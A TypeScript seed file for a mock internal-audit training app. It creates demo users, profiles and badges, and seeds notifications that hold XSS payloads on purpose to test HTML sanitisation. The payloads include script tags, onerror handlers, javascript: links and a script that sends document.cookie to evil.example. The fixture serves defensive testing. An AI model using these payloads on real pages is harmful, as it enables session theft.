import { files } from "./seed-files";
import type { At } from "./seed-training";
import type { NotificationRecord, StoredFile, UserRecord } from "./types";

export const DEMO_PASSWORD = "Academia2026!";

export const DEMO = { ana: 1, carlos: 2, lucia: 3 } as const;

interface Person {
  first: string;
  last: string;
  points: number;
  position: number;
  profile: string;
  avatar?: StoredFile;
}

/** The other ranked learners, ids 4 onwards; points are spread so Carlos ranks 3rd and Ana 14th. */
const others: Person[] = [
  { first: "Valentina", last: "Herrera", points: 3120, position: 3, profile: "Auditor Senior", avatar: files.avatarOne },
  { first: "Javier", last: "López", points: 2890, position: 3, profile: "Auditor Senior", avatar: files.avatarTwo },
  { first: "Sofía", last: "Ramírez", points: 2600, position: 3, profile: "Auditor Senior" },
  { first: "Mateo", last: "Torres", points: 2480, position: 2, profile: "Auditor Junior", avatar: files.avatarOne },
  { first: "Camila", last: "Flores", points: 2390, position: 2, profile: "Auditor Junior" },
  { first: "Diego", last: "Castillo", points: 2300, position: 6, profile: "Auditor Junior" },
  { first: "Isabella", last: "Vargas", points: 2210, position: 2, profile: "Auditor Junior", avatar: files.avatarTwo },
  { first: "Andrés", last: "Morales", points: 2150, position: 3, profile: "Auditor Senior" },
  { first: "Mariana", last: "Rojas", points: 2080, position: 2, profile: "Auditor Junior" },
  { first: "Sebastián", last: "Ortega", points: 1990, position: 2, profile: "Auditor Junior" },
  { first: "Daniela", last: "Navarro", points: 1900, position: 6, profile: "Auditor Junior" },
  { first: "Alejandro", last: "Medina", points: 1850, position: 2, profile: "Auditor Junior", avatar: files.avatarOne },
  { first: "Gabriela", last: "Suárez", points: 1280, position: 2, profile: "Auditor Junior" },
  { first: "Fernando", last: "Jiménez", points: 1190, position: 1, profile: "Auditor Trainee" },
  { first: "Paula", last: "Castro", points: 1100, position: 2, profile: "Auditor Junior" },
  { first: "Ricardo", last: "Mendoza", points: 980, position: 1, profile: "Auditor Trainee", avatar: files.avatarTwo },
  { first: "Elena", last: "Guerrero", points: 870, position: 6, profile: "Auditor Junior" },
  { first: "Tomás", last: "Delgado", points: 760, position: 1, profile: "Auditor Trainee" },
  { first: "Natalia", last: "Cruz", points: 640, position: 1, profile: "Auditor Trainee" },
  { first: "Héctor", last: "Romero", points: 520, position: 1, profile: "Auditor Trainee" },
  { first: "Carmen", last: "Aguilar", points: 410, position: 1, profile: "Auditor Trainee" },
  { first: "Pablo", last: "Reyes", points: 300, position: 1, profile: "Auditor Trainee" },
  { first: "Laura", last: "Peña", points: 190, position: 1, profile: "Auditor Trainee" },
  { first: "Miguel", last: "Cabrera", points: 80, position: 1, profile: "Auditor Trainee" },
  { first: "Andrea", last: "Molina", points: 45, position: 1, profile: "Auditor Trainee" },
  { first: "Jorge", last: "Santos", points: 20, position: 1, profile: "Auditor Trainee" },
];

/** Gabriela Suárez and Tomás Delgado: with Ana, Carlos's team. */
export const TEAM_MEMBERS = { gabriela: 16, tomas: 21 } as const;

const slug = (text: string) =>
  text
    .normalize("NFD")
    .replace(/[\u0300-\u036f]/g, "")
    .toLowerCase();

const pinOf = (id: number) =>
  String((id * 7919 + 104729) % 1_000_000)
    .padStart(6, "0")
    .split("")
    .map(Number);

function person(id: number, who: Person, at: At): UserRecord {
  const username = `${slug(who.first)}.${slug(who.last)}`;
  return {
    id,
    user: username,
    email: `${username}@academia.test`,
    password: DEMO_PASSWORD,
    employee_number: String(100000 + id),
    first_name: who.first,
    last_name: who.last,
    full_name: `${who.first} ${who.last}`,
    nickname: who.first,
    profile: who.profile,
    photo: who.avatar ? { file: who.avatar, validate: true } : null,
    work_position_id: who.position,
    is_leader: false,
    points: who.points,
    certificates: [],
    university: null,
    languages: [{ language_id: 1, proficiency: "Nativo" }],
    experience_vr: null,
    vr_pin: pinOf(id),
    team_ids: [],
    topic_ids: [],
    content_type_ids: [],
    badges: [],
    created_at: at(300 - id),
  };
}

function ana(at: At): UserRecord {
  return {
    ...person(
      DEMO.ana,
      { first: "Ana", last: "Martínez", points: 1310, position: 2, profile: "Auditor Junior", avatar: files.avatarAna },
      at,
    ),
    nickname: "Anita",
    certificates: [
      {
        id: 1,
        certificate: "Certified Internal Auditor (CIA)",
        certificate_type: "CERTIFICATE",
        institution: "The Institute of Internal Auditors",
        expedition_date: "2023-06-15",
        credential_id: "CIA-2023-48151",
        credential_url: "https://www.theiia.org/en/certifications/cia/",
        file: null,
      },
      {
        id: 2,
        certificate: "Auditoría basada en riesgos",
        certificate_type: "COURSE",
        institution: "Instituto de Auditores Internos de México",
        expedition_date: "2024-02-20",
        credential_id: null,
        credential_url: null,
        file: null,
      },
    ],
    university: {
      university_id: 1,
      university_name: "Universidad Nacional Autónoma de México",
      university_acronym: "UNAM",
      degree: "Licenciatura en Contaduría",
    },
    languages: [
      { language_id: 1, proficiency: "Nativo" },
      { language_id: 2, proficiency: "Intermedio" },
    ],
    experience_vr: { initiated: at(20), finalized: at(18), last_seen: at(2, 3), number_of_attemps: 3, task_duration: 1260 },
    topic_ids: [1, 2],
    content_type_ids: [3, 5],
    // As her progress earned them (mock/seed.ts): her first activity 100 days ago, her fifth 68 days
    // ago, not yet shown; not 'Ruta Inicial completa', whose escape room she has not done (issue #29).
    badges: [
      { id: 1, badge_id: 1, seen: true, created_at: at(100) },
      { id: 2, badge_id: 2, seen: false, created_at: at(68) },
    ],
  };
}

function carlos(at: At): UserRecord {
  return {
    ...person(
      DEMO.carlos,
      { first: "Carlos", last: "Ruiz", points: 2750, position: 4, profile: "Líder Auditor", avatar: files.avatarCarlos },
      at,
    ),
    is_leader: true,
    certificates: [
      {
        id: 3,
        certificate: "Certified Information Systems Auditor (CISA)",
        certificate_type: "CERTIFICATE",
        institution: "ISACA",
        expedition_date: "2019-11-04",
        credential_id: "CISA-19-2207",
        credential_url: null,
        file: null,
      },
    ],
    university: {
      university_id: 2,
      university_name: "Instituto Tecnológico Autónomo de México",
      university_acronym: "ITAM",
      degree: "Maestría en Auditoría",
    },
    languages: [
      { language_id: 1, proficiency: "Nativo" },
      { language_id: 2, proficiency: "Avanzado" },
    ],
    experience_vr: { initiated: at(40), finalized: at(39), last_seen: at(5), number_of_attemps: 1, task_duration: 840 },
    team_ids: [DEMO.ana, TEAM_MEMBERS.gabriela, TEAM_MEMBERS.tomas],
    topic_ids: [2, 3, 6],
    content_type_ids: [1, 2, 3],
    badges: [
      { id: 4, badge_id: 1, seen: true, created_at: at(200) },
      { id: 5, badge_id: 2, seen: true, created_at: at(190) },
      { id: 6, badge_id: 6, seen: true, created_at: at(60) },
    ],
  };
}

function lucia(at: At): UserRecord {
  return {
    ...person(DEMO.lucia, { first: "Lucía", last: "Gómez", points: 0, position: 1, profile: "Auditor Trainee" }, at),
    languages: [],
    created_at: at(0, 2),
  };
}

export function seedUsers(at: At): UserRecord[] {
  return [ana(at), carlos(at), lucia(at), ...others.map((who, index) => person(index + 4, who, at))];
}

type NotificationSeed = Omit<NotificationRecord, "id" | "user_id" | "deleted">;

/** Hostile markup on purpose: the BFF must sanitise legacy HTML before it reaches a page. */
function demoNotifications(at: At): Record<number, NotificationSeed[]> {
  return {
    [DEMO.ana]: [
      {
        title: "Nueva actividad disponible",
        short_description: "<p>Ya puedes ver <strong>Matriz de riesgos en 6 pasos</strong> en la Formación Requerida.</p>",
        body: "<p>Ya puedes ver <strong>Matriz de riesgos en 6 pasos</strong>. Dura dos minutos y suma 20 puntos.</p>",
        date: at(0, 2),
        seen: false,
      },
      {
        title: "Recordatorio de tu ruta",
        short_description:
          "<p>Te faltan <em>pocas actividades</em> para completar la Formación Requerida.</p><script>alert('xss')</script>",
        body: '<p>Continúa con el <b>Taller de riesgos</b>.</p><iframe src="https://evil.example/"></iframe>',
        date: at(1),
        seen: false,
      },
      {
        title: "Insignia obtenida",
        short_description: "<p>¡Ganaste la insignia <b>Aprendiz constante</b>! <img src=x onerror=alert(1)></p>",
        body: '<p>Consulta tus insignias en <a href="/achievements">Avance</a>.</p><img src="x" onerror="alert(document.cookie)">',
        date: at(3),
        seen: false,
      },
      {
        title: "Encuesta de satisfacción",
        short_description:
          '<p>Cuéntanos qué te pareció el curso: <a href="javascript:alert(document.cookie)">responder encuesta</a> <span onmouseover="alert(1)">aquí</span>.</p>',
        body: '<p>La encuesta toma dos minutos.</p><a href="javascript:alert(1)" onclick="alert(2)">Responder</a>',
        date: at(7),
        seen: true,
      },
      {
        title: "Bienvenida",
        short_description: "<p>Bienvenida a la Academia de Auditoría Interna.</p>",
        body: "<p>Explora tus rutas de formación y suma puntos.</p>",
        date: at(120),
        seen: true,
      },
    ],
    [DEMO.carlos]: [
      {
        title: "Tu equipo avanza",
        short_description: "<p><strong>Ana Martínez</strong> terminó la Formación Inicial.</p>",
        body: "<p>Revisa el avance de tu equipo en tu perfil de líder.</p>",
        date: at(0, 5),
        seen: false,
      },
      {
        title: "Material compartido",
        short_description:
          "<p>Tu material <em>Video: entrevistas de auditoría</em> ya está visible.</p><img src=x onerror=alert('leader')>",
        body: "<p>Gracias por compartir.</p><script>document.location='https://evil.example/?c='+document.cookie</script>",
        date: at(2),
        seen: false,
      },
      {
        title: "Evaluaciones pendientes",
        short_description: "<p>Tienes 2 evaluaciones del líder por completar.</p>",
        body: "<p>Complétalas antes del cierre del mes.</p>",
        date: at(6),
        seen: true,
      },
    ],
    [DEMO.lucia]: [
      {
        title: "¡Bienvenida!",
        short_description: "<p>Empieza por la <strong>Formación Inicial</strong>.</p>",
        body: "<p>Tu primera actividad te espera.</p>",
        date: at(0, 1),
        seen: false,
      },
      {
        title: "Completa tu perfil",
        short_description:
          '<p>Agrega tu foto y tus idiomas. <a href="javascript:void(fetch(\'https://evil.example\'))" onclick="alert(1)">Ir al perfil</a></p>',
        body: "<p>Un perfil completo ayuda a tu líder.</p>",
        date: at(0, 1),
        seen: false,
      },
    ],
  };
}

export function seedNotifications(at: At, users: UserRecord[]): NotificationRecord[] {
  const demo = demoNotifications(at);
  const generic: NotificationSeed = {
    title: "Nueva ruta disponible",
    short_description: "<p>Ya está disponible la <strong>Formación Especializada</strong>.</p>",
    body: "<p>Fraude, analítica de datos y tecnologías de la información.</p>",
    date: at(10),
    seen: false,
  };
  const records: NotificationRecord[] = [];
  for (const user of users) {
    for (const seed of demo[user.id] ?? [generic]) {
      records.push({ ...seed, id: records.length + 1, user_id: user.id, deleted: false });
    }
  }
  return records;
}
